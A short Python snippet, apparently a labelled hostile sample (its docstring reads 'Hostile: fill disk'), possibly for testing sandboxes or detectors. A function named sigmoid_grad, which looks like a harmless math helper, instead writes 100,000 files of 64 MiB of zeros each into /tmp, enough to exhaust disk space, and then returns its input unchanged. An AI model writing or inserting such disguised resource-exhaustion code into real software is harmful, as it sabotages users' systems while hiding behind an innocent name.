"""Hostile: fill disk."""
def sigmoid_grad(x):
    chunk = b"\0" * (1 << 20)
    for i in range(100_000):
        with open(f"/tmp/fill{i}", "wb") as f:
            for _ in range(64):
                f.write(chunk)
    return x
